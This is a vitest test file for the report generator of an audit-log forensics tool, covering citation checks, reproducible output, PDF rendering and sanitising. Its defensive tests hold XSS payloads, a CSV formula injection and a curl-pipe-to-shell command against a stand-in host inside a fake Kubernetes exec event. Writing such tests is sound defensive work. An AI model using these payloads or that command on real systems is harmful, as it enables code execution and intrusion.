import { execFileSync } from 'node:child_process';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import type { ReportRequest } from '../../core/contract/report.ts';
import type { Session } from '../../core/host/api.ts';
import { placeOf } from '../../core/host/mark-places.ts';
import { openCase } from '../../core/host/open-case.ts';
import { CaseStore } from '../../core/store/case-store.ts';
import { decklog, ROOT } from '../cli/decklog.ts';
import { CONTEXT, caseOf, SAMPLES, SHIPPED, temporaryFolder } from '../host/case.ts';

const LOGS = [1, 2].map((node) => join(ROOT, 'sample', 'northwind', `nw-cp-${node}`, 'audit.log.gz'));
const MADE = '2026-03-12T09:40:00.000Z';
const CHECKER = join(import.meta.dirname, 'check_citations.py');

const folder = temporaryFolder();
const casePath = join(folder, 'case.decklog');

beforeAll(async () => {
  const session = await caseOf(LOGS, { rules: SHIPPED }, casePath);
  session.close();
});

async function made(
  path: string,
  request: Partial<ReportRequest> & Pick<ReportRequest, 'format'>,
): Promise<Uint8Array> {
  const session = openCase(path, { mode: 'read', examiner: 'tester' });
  try {
    return await bytesOf(session, request);
  } finally {
    session.close();
  }
}

async function bytesOf(
  session: Session,
  request: Partial<ReportRequest> & Pick<ReportRequest, 'format'>,
): Promise<Uint8Array> {
  const files = await session.outputs.report({ made: MADE, ...request }, CONTEXT);
  return files[0]?.bytes as Uint8Array;
}

const text = (bytes: Uint8Array): string => new TextDecoder().decode(bytes);

test.each(['json', 'html'] as const)(
  'a script of its own finds every citation of a %s report in the archive',
  async (format) => {
    const path = join(folder, `report.${format}`);
    writeFileSync(path, await made(casePath, { format }));

    const said = execFileSync('python3', [CHECKER, path, ...LOGS], { encoding: 'utf8' });

    expect(said).toMatch(/^[1-9]\d* citations, 0 wrong/);
  },
);

test('the script finds a citation that is off by one byte', async () => {
  const report = JSON.parse(text(await made(casePath, { format: 'json' })));
  report.findings.citations[0].sha256 = '0'.repeat(64);
  const path = join(folder, 'wrong.json');
  writeFileSync(path, JSON.stringify(report));

  expect(() => execFileSync('python3', [CHECKER, path, ...LOGS])).toThrow(/Command failed/);
});

test.each(['json', 'html', 'md', 'pdf'] as const)(
  'copies of one case give the same %s report, under any name',
  async (format) => {
    const copy = join(temporaryFolder(), 'another name.decklog');
    copyFileSync(casePath, copy);

    const [first, second] = [await made(casePath, { format }), await made(copy, { format })];

    expect(Buffer.from(first).equals(second)).toBe(true);
  },
);

test('making a report is recorded, and the next report of the unchanged case is the same', async () => {
  const copy = join(temporaryFolder(), 'copy.decklog');
  copyFileSync(casePath, copy);
  const session = openCase(copy, { mode: 'write', examiner: 'tester' });
  const before = session.glance().head;

  const first = await bytesOf(session, { format: 'json' });
  const head = session.glance().head;
  const second = await bytesOf(session, { format: 'json' });
  const verified = await session.verify({ evidence: [], head: before }, CONTEXT);
  session.close();

  expect(head).not.toBe(before);
  expect(text(second)).toBe(text(first));
  expect(verified.ok).toBe(true);
});

test('the findings part is the same bytes for evidence in another folder, in another order, by another examiner', async () => {
  const elsewhere = temporaryFolder();
  const paths = LOGS.map((log, index) => {
    execFileSync('mkdir', ['-p', join(elsewhere, `nw-cp-${index + 1}`)]);
    const path = join(elsewhere, `nw-cp-${index + 1}`, basename(log));
    copyFileSync(log, path);
    return path;
  });
  const other = await caseOf([...paths].reverse(), { rules: SHIPPED });
  const report = JSON.parse(text(await bytesOf(other, { format: 'json' })));
  other.close();

  const here = JSON.parse(text(await made(casePath, { format: 'json' })));

  expect(JSON.stringify(report.findings)).toBe(JSON.stringify(here.findings));
});

test('the time of making is stated once', async () => {
  for (const format of ['json', 'html', 'md'] as const) {
    expect(text(await made(casePath, { format })).split(MADE)).toHaveLength(2);
  }
});

test('a page holds no script and refers to nothing outside, whatever the evidence and the examiner say', async () => {
  const session = await caseOf([join(SAMPLES, 'hostile--strings.jsonl'), ...LOGS], { rules: SHIPPED });
  const own =
    '# Hello <script>alert(1)</script>\n\n![x](https://evil.example/x.png) [here](javascript:alert(1)) <img src=x onerror=alert(1)>';
  const page = text(await bytesOf(session, { format: 'html', text: own, question: '"><script>alert(2)</script>' }));
  session.close();

  expect(page).not.toMatch(/<(script|img|iframe|object|embed|link|form|base|audio|video)\b/i);
  expect(page.replace(/&[a-z#0-9]+;/g, '')).not.toMatch(/<[^>]*\s(on\w+|src|srcset|action|formaction)\s*=/i);
  expect([...page.matchAll(/href="([^"]*)"/g)].every(([, href]) => href?.startsWith('#'))).toBe(true);
  expect(page).not.toMatch(/url\(|@import/);
  expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
});

test('own words in Markdown become headings, lists and emphasis', async () => {
  const page = text(
    await made(casePath, {
      format: 'html',
      text: '## Steps\n\n1. *first*\n2. **second** `code`\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    }),
  );

  expect(page).toContain('<h4>Steps</h4>');
  expect(page).toContain('<ol><li><em>first</em></li><li><strong>second</strong> <code>code</code></li></ol>');
  expect(page).toContain('<blockquote><p>said</p>');
});

test('what is left out is left out, and said', async () => {
  const page = text(await made(casePath, { format: 'html', without: ['actions', 'glossary'], level: 'high' }));

  expect(page).not.toContain('<section id="actions"');
  expect(page).toContain('of level high and above');
  expect(page).toMatch(/<h4>#\d+ /);
  expect(page).not.toMatch(/<h4>#\d+ [^<]*<\/h4>\s*<p><b class="level l[012]">/);
});

test('cells that a spreadsheet would run are defused', async () => {
  const log = join(folder, 'formula.log');
  const event = JSON.parse(readFileSync(join(SAMPLES, 'k8s-audit-jsonl.log'), 'utf8').split('\n')[0] as string);
  const objectRef = { resource: 'pods', namespace: 'n', name: 'p', subresource: 'exec', apiVersion: 'v1' };
  const attack = {
    ...event,
    user: { username: '=cmd|calc' },
    verb: 'create',
    objectRef,
    requestURI:
      '/api/v1/namespaces/n/pods/p/exec?command=sh&command=-c&command=curl%20http://203.0.113.9/x.sh%20|%20sh',
  };
  writeFileSync(log, `${JSON.stringify(attack)}\n`);
  const session = await caseOf([log], { rules: SHIPPED });
  const files = await session.outputs.report({ format: 'csv', made: MADE }, CONTEXT);
  const cells = files.flatMap(({ bytes }) =>
    text(bytes)
      .replace('\ufeff', '')
      .split(/\r\n|,/),
  );
  session.close();

  expect(files.map(({ name }) => name)).toContain('findings.csv');
  expect(cells.some((cell) => cell.includes("'=cmd|calc"))).toBe(true);
  expect(cells.filter((cell) => /^"?[=+@-]/.test(cell))).toEqual([]);
});

test('decisions are told with who made them and why', async () => {
  const copy = join(temporaryFolder(), 'decided.decklog');
  copyFileSync(casePath, copy);
  const session = openCase(copy, { mode: 'write', examiner: 'Ada' });
  const [alert] = session.alerts({});
  session.setStatus(alert?.id as number, 'benign', 'rollout 4711');

  const page = text(await bytesOf(session, { format: 'html' }));
  session.close();

  expect(page).toMatch(/<td>benign<\/td><td>Ada<\/td><td>[^<]+<\/td><td>rollout 4711<\/td>/);
});

test('a PDF has pages with numbers, contents, the hash of the case in each footer, embedded fonts and text to copy', async () => {
  const path = join(folder, 'report.pdf');
  writeFileSync(path, await made(casePath, { format: 'pdf', question: 'Wer war es? Ελληνικά, кириллица, 漢字' }));
  const read = (program: string, ...args: readonly string[]) => execFileSync(program, [...args], { encoding: 'utf8' });
  const pages = Number(/Pages:\s+(\d+)/.exec(read('pdfinfo', path))?.[1]);
  const words = read('pdftotext', '-layout', path, '-');
  const report = JSON.parse(text(await made(casePath, { format: 'json' })));

  expect(words.match(/page \d+ of \d+/g)).toEqual(
    Array.from({ length: pages }, (_, page) => `page ${page + 1} of ${pages}`),
  );
  expect(words.split(report.custody.caseHash).length - 1).toBeGreaterThanOrEqual(pages);
  expect(words).toMatch(/Contents\s+1 Scope and question\s+2/);
  expect(words).toContain('Wer war es? Ελληνικά, кириллица, 漢字');
  expect(
    read('pdffonts', path)
      .split('\n')
      .slice(2)
      .filter(Boolean)
      .every((line) => /yes yes yes/.test(line)),
  ).toBe(true);
});

test('what a suppression hides stands with the decisions, by whom and why, and not among the findings', async () => {
  const copy = join(temporaryFolder(), 'hidden.decklog');
  copyFileSync(casePath, copy);
  const [alert] = JSON.parse(text(await made(casePath, { format: 'json' }))).findings.findings;
  const hide = ['suppress', copy, 'add', '--rule', alert.rule.id, '--reason', 'known to the team', '--examiner', 'Ada'];
  const hidden = await decklog(hide);
  const report = JSON.parse(text(await made(copy, { format: 'json' })));

  expect(hidden.stderr).toBe('');
  expect(report.findings.findings.filter(({ rule }: { rule: { id: string } }) => rule.id === alert.rule.id)).toEqual(
    [],
  );
  expect(report.custody.decisions[0]).toMatchObject({ status: 'suppressed', by: 'Ada', reason: 'known to the team' });
});

test('a starred event and a note stand in the report with their place', async () => {
  const copy = join(temporaryFolder(), 'marked.decklog');
  copyFileSync(casePath, copy);
  const store = CaseStore.open(copy, 'write');
  const place = placeOf({ kind: 'event', id: 7 }, store);
  store.change(() => {
    store.marks.add('note', 'look <b>here</b>', place, 'Ada', 1_700_000_000_000_000);
    store.record({ examiner: 'Ada', time: 1_700_000_000_000_000, name: 'marks/add', detail: {}, changed: ['marks'] });
  });
  store.close();

  const { custody } = JSON.parse(text(await made(copy, { format: 'json' })));
  const page = text(await made(copy, { format: 'html' }));

  expect(custody.marks).toEqual([
    expect.objectContaining({
      kind: 'note',
      examiner: 'Ada',
      place: expect.objectContaining({ offset: expect.any(Number) }),
    }),
  ]);
  expect(page).toContain('look &lt;b&gt;here&lt;/b&gt;');
});

test('letters of any script can be read in a PDF, and copied in their order', async () => {
  const lines = [
    'кириллица Ελληνικά',
    '中文字符 日本語カタカナ',
    '한국어 텍스트',
    'مرحبا بالعالم',
    'שלום עולם',
    'ไทย 😀🚀',
    'mixed 中a文b',
  ];
  const path = join(folder, 'scripts.pdf');
  writeFileSync(
    path,
    await made(casePath, { format: 'pdf', title: '中文 😀', text: lines.map((line) => `* ${line}`).join('\n') }),
  );
  const words = execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8' }).replace(/[\u202a-\u202e]/g, '');

  expect(lines.filter((line) => !words.includes(line))).toEqual([]);
  expect(words).toContain('中文 😀');
  expect(words).not.toContain('[U+');
});
